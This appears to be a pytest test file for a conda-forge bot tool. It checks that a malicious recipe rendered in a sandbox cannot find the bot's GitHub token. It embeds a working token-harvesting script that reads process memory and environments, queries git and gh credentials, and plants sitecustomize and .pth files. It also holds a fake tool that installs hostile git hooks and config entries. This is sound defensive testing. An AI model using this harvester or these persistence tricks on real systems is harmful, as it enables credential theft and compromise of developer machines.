"""A recipe that runs code when it is rendered, and looks for the bot's token wherever its user's processes can look."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

import dirac_forge
from cli.test_bot import Here, here  # noqa: F401  # a fixture
from dirac_forge.cli.bot_local import may_build
from dirac_forge.pullrequest.jail import find_jail
from support.bots import TOKEN
from support.github import bare

FORK = "bot/demo-feedstock"
SOURCE = Path(dirac_forge.__file__).parents[1]
AGENT = f"\0dirac-forge-agent-{os.getpid()}"
WAITING = ["sleep", f"120.{os.getpid()}"]
PROGRAM = "import sys\nfrom dirac_forge.cli import main\n\nif __name__ == '__main__':\n    sys.exit(main())\n"
BRANCH = "dirac-forge/bump/main/1.1"

SPY = r"""
import ctypes, json, os, re, socket, subprocess, sys
from pathlib import Path

NEEDLE = re.compile(rb"ghp_[0-9a-f]{36}")
found, looked = [], {"processes": 0, "files": 0}

def look(place, data):
    if NEEDLE.search(data):
        found.append(place)

def read(path, limit=2_000_000):
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""

for process in Path("/proc").iterdir():
    if not process.name.isdigit() or (ONLY and process.name not in ONLY):
        continue
    looked["processes"] += 1
    for name in ("environ", "cmdline"):
        look(f"/proc/{process.name}/{name}", read(process / name))
    for line in read(process / "maps").decode(errors="replace").splitlines():
        span, rights, *_ = line.split()
        if "r" not in rights or int(process.name) == os.getpid():
            continue
        start, end = (int(each, 16) for each in span.split("-"))
        try:
            with open(process / "mem", "rb") as memory:
                memory.seek(start)
                look(f"/proc/{process.name}/mem", memory.read(min(end - start, 50_000_000)))
        except (OSError, ValueError, OverflowError):
            pass
    for name in ("cwd", "root"):
        try:
            for path in list((process / name).iterdir())[:200]:
                look(f"/proc/{process.name}/{name}/{path.name}", read(path))
        except OSError:
            pass
for top in PLACES + ([] if ONLY else [os.path.expanduser("~"), "/tmp", "/run", "/root", "/home"]):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if name not in {"site-packages", ".git", ".pyenv", "lib"}]
        for name in files:
            looked["files"] += 1
            look(os.path.join(folder, name), read(os.path.join(folder, name), 200_000))
for command in (
    ["git", "config", "--list", "--show-origin"],
    ["git", "credential", "fill"],
    ["gh", "auth", "token"],
    ["ssh-add", "-L"],
):
    try:
        done = subprocess.run(command, input=b"protocol=https\nhost=github.com\n\n", capture_output=True, timeout=20)
        look(" ".join(command), done.stdout + done.stderr)
    except OSError:
        pass
for name in AGENTS:
    try:
        with socket.socket(socket.AF_UNIX) as agent:
            agent.settimeout(5)
            agent.connect(name)
            look(f"the agent {name!r}", agent.recv(100))
    except OSError:
        pass
libc = ctypes.CDLL(None)
for process in Path("/proc").iterdir():
    if process.name.isdigit() and int(process.name) not in (1, os.getpid(), os.getppid()) and not ONLY:
        if libc.ptrace(16, int(process.name), 0, 0) == 0:
            found.append(f"{process} can be traced")
sockets = [name for name in os.environ if name.endswith(("_SOCK", "_ADDRESS", "_CONTROL"))]
look("environment", repr(dict(os.environ)).encode())
for top in PLANTS:
    for folder, _, _ in os.walk(top):
        for name in ("sitecustomize.py", "planted.pth", "config", ".gitattributes"):
            try:
                with open(os.path.join(folder, name), "x") as file:
                    file.write("planted by a recipe")
            except OSError:
                pass
subprocess.Popen(WAITING, start_new_session=True)
report = {"found": found, "sockets": sockets, **looked}
"""

SMITHY = """#!{python}
import sys
from pathlib import Path
if sys.argv[1:] == ["--version"]:
    print("3.54.1")
    sys.exit(0)
if sys.argv[1] == "recipe-lint":
    # What runs first prepares what runs next: a look through git, and programs for the git that comes after it.
    git = Path(sys.argv[2]).parent / ".git"
    (git / "objects" / "info" / "alternates").write_text({home!r} + "/.config\\n")
    with (git / "config").open("a") as file:
        file.write("[core]\\n\\tfsmonitor = touch {home}/ran\\n\\tsshCommand = touch {home}/ran\\n")
    (git / "hooks").mkdir(exist_ok=True)
    for name in ("post-index-change", "pre-push", "pre-commit"):
        (git / "hooks" / name).write_text("#!/bin/sh\\ntouch {home}/ran\\n")
        (git / "hooks" / name).chmod(0o755)
    print(sys.argv[2], "is in fine form")
if sys.argv[1] == "rerender":
    folder = Path(sys.argv[sys.argv.index("--feedstock_directory") + 1])
    PLACES, ONLY, AGENTS, WAITING, PLANTS = {places!r}, (), {agents!r}, {waiting!r}, {plants!r}
    target = folder / "spied.json"
    exec((folder / "recipe" / "spy.py").read_text())
    target.write_text(json.dumps(report))
"""


def program(folder: Path, name: str, text: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    (folder / name).chmod(0o755)


def run(
    workspace: Here, tmp_path: Path, environment: Mapping[str, str], *arguments: str
) -> subprocess.CompletedProcess[str]:
    """The program, as a person starts it: with a home folder, an agent, and conda-smithy on PATH."""
    home = tmp_path / "home"
    (home / ".config/gh").mkdir(parents=True)
    (home / ".config/gh/hosts.yml").write_text(f"github.com:\n  oauth_token: {TOKEN}\n", encoding="utf-8")
    (home / ".git-credentials").write_text(f"https://me:{TOKEN}@github.com\n", encoding="utf-8")
    told = {"places": [str(tmp_path)], "plants": [str(tmp_path), str(SOURCE)], "agents": [AGENT], "waiting": WAITING}
    program(tmp_path / "bin", "conda-smithy", SMITHY.format(python=sys.executable, home=str(home), **told))
    program(tmp_path / "bin", "dirac-forge", f"#!{sys.executable}\n{PROGRAM}")
    for name in ("multiprocessing", "runpy", "json", "pickle", "sitecustomize", "usercustomize"):
        (workspace.folder / f"{name}.py").write_text(f"open({str(home / 'imported')!r}, 'w')\n", encoding="utf-8")
    plain = {name: text for name, text in os.environ.items() if not name.startswith(("GITHUB_", "GH_"))}
    plain |= {
        "HOME": str(home),
        "PATH": f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}",
        "SSH_AUTH_SOCK": str(tmp_path / "agent"),
        "GITHUB_API_URL": workspace.github.api_url,
        "PYTHONPATH": os.pathsep.join(path for path in sys.path if path),
    }
    command = (str(tmp_path / "bin" / "dirac-forge"), "bot", "run", "--pr", "--json")
    options = ("--index-url", workspace.index.url)
    return subprocess.run(
        (*command, *options, *arguments),
        env={**plain, **environment},
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
        cwd=workspace.folder,
    )


@contextmanager
def agent() -> Iterator[None]:
    """An agent that gives the token to who connects, by a name that is in no folder, as session buses have them."""
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(AGENT)
        listening.listen()

        def serve() -> None:
            with suppress(OSError):
                while True:
                    with listening.accept()[0] as one:
                        one.sendall(TOKEN.encode())

        served = threading.Thread(target=serve, daemon=True)
        served.start()
        yield
        listening.shutdown(socket.SHUT_RDWR)


def is_waiting() -> bool:
    """Whether what the recipe left behind is still there."""
    lines = (path / "cmdline" for path in Path("/proc").iterdir() if path.name.isdigit())
    for line in lines:
        with suppress(OSError):
            if line.read_bytes().split(b"\0")[:-1] == [each.encode() for each in WAITING]:
                return True
    return False


@pytest.fixture
def spied(here: Here) -> Here:  # noqa: F811
    bare.commit(here.github.path("conda-forge/demo-feedstock"), "main", {"recipe/spy.py": SPY})
    return here


@pytest.mark.skipif(find_jail() is None, reason="no sandbox can be made here")
def test_a_recipe_that_is_rendered_finds_no_token_during_a_run_that_uses_one(spied: Here, tmp_path: Path) -> None:
    secret = tmp_path / "secrets" / "token"
    secret.parent.mkdir()
    secret.write_text(f"{TOKEN}\n", encoding="utf-8")
    with agent():
        done = run(spied, tmp_path, {"GITHUB_TOKEN_FILE": str(secret)})
    assert done.returncode == 0, done.stderr
    assert not is_waiting()
    assert not [*tmp_path.rglob("planted.pth"), *SOURCE.rglob("planted.pth")]
    assert not (tmp_path / "home" / "ran").exists()
    assert not (tmp_path / "home" / "imported").exists()
    (request,) = json.loads(done.stdout)["requests"]
    assert (request["feedstock"], request["state"]) == ("demo", "opened")
    report = json.loads(spied.github.git(FORK, "show", f"{BRANCH}:spied.json"))
    assert report == {"found": [], "sockets": [], "processes": report["processes"], "files": report["files"]}
    assert report["processes"] >= 1
    assert spied.github.git(FORK, "log", "--format=%an %s", BRANCH).splitlines()[:2] == [
        "bot MNT: Re-rendered with conda-smithy 3.54.1",
        "bot demo 1.1",
    ]
    assert TOKEN not in done.stdout + done.stderr
    assert not (spied.folder / "outbox/demo").exists()


def test_with_the_token_in_the_environment_no_recipe_is_executed_and_the_service_is_asked(
    spied: Here, tmp_path: Path
) -> None:
    done = run(spied, tmp_path, {"GITHUB_TOKEN": TOKEN})
    assert done.returncode == 0, done.stderr
    said = "not rendered locally: a recipe could read GITHUB_TOKEN in the environment"
    assert said in " ".join(done.stderr.split())
    assert "spied.json" not in spied.github.git(FORK, "ls-tree", "-r", "--name-only", BRANCH).splitlines()
    (pull,) = spied.github.pulls("conda-forge/demo-feedstock")
    assert [comment.body.splitlines()[0] for comment in pull.comments] == ["@conda-forge-admin, please rerender"]


def test_the_spy_finds_a_token_that_is_within_reach(tmp_path: Path) -> None:
    (tmp_path / "token").write_text(TOKEN, encoding="utf-8")
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GH_TOKEN": TOKEN}
    with agent(), subprocess.Popen(("sleep", "60"), env=environment) as other:
        known = f"PLACES, ONLY, PLANTS = [{str(tmp_path)!r}], ({str(other.pid)!r},), [{str(tmp_path)!r}]\n"
        known += f"AGENTS, WAITING = [{AGENT!r}], ['true']\n"
        script = f"{known}{SPY}\nprint(json.dumps(report))"
        command = (sys.executable, "-I", "-c", script)
        done = subprocess.run(command, env=environment, capture_output=True, text=True, encoding="utf-8", check=True)
        other.kill()
    found = json.loads(done.stdout)["found"]
    process = f"/proc/{other.pid}"
    assert {str(tmp_path / "token"), "environment", f"{process}/environ", f"{process}/mem"} <= {*found}
    assert f"the agent {AGENT!r}" in found
    assert (tmp_path / "planted.pth").exists()


@pytest.mark.parametrize(
    ("isolation", "unsafe", "allowed", "told"),
    [
        ("unshare", "", False, ""),
        ("none", "", True, ""),
        ("none", "", False, "nothing is built, because this machine can't isolate builds"),
        ("unshare", "GH_TOKEN", True, "nothing is built, because upstream code could read GH_TOKEN"),
    ],
)
def test_bot_builds_only_what_is_isolated(
    monkeypatch: pytest.MonkeyPatch, isolation: str, unsafe: str, allowed: bool, told: str
) -> None:
    monkeypatch.setattr("dirac_forge.build.isolation.detect", lambda: isolation)
    monkeypatch.setattr("dirac_forge.cli.bot_local.unsafe_build_of", lambda context: unsafe)
    warnings: list[str] = []
    settings, observer = SimpleNamespace(unisolated_builds=allowed), SimpleNamespace(warned=warnings.append)
    context: Any = SimpleNamespace(settings=settings, observer=observer)
    assert may_build(context) is (not told)
    assert warnings == [told] * bool(told)
